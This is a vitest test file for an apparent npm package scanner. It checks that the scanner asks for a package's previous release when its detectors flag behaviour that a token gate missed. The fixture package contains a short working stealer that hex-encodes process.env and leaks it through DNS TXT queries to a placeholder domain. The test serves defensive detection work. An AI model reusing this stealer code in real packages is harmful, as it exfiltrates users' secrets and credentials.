import { describe, expect, it } from 'vitest';
import { enableDetectors, judgeTarballStage } from '../../src/engine/judge.js';
import { riskyCapability } from '../../src/analysis/behaviour/capability.js';
import { factsFromFixture } from '../support/package-fixture.js';

const now = new Date('2026-12-01');
const pkg = (code: string) =>
  factsFromFixture({
    name: 'ipc-courier',
    publisher: { name: 'someone', email: 'someone@example.com' },
    versions: [{ version: '3.0.1', publishedAt: '2026-11-30T00:00:00.000Z', manifest: { description: 'IPC', main: 'index.js' }, files: { 'index.js': code } }],
  });

describe('when the release before is read', () => {
  it('also when the detectors proved strong behaviour the token gate could not see (a stealer sending the environment over DNS)', () => {
    const stealer = pkg(`const dns = require('dns');
const r = new dns.promises.Resolver();
const blob = Buffer.from(JSON.stringify(process.env)).toString('hex');
for (const part of blob.match(/.{1,60}/g) || []) r.resolveTxt(part + '.t.azurestaticprovider.example');
`);
    expect(riskyCapability(stealer)).toBe(false);
    expect(judgeTarballStage(stealer, enableDetectors({}), now, false, true).previousWanted).toBe(true);
    // Not asked, never; and a package without such findings is not read twice.
    expect(judgeTarballStage(stealer, enableDetectors({}), now, false, false).previousWanted).toBe(false);
    expect(judgeTarballStage(pkg("module.exports = (a, b) => a + b;\n"), enableDetectors({}), now, false, true).previousWanted).toBe(false);
  });
});
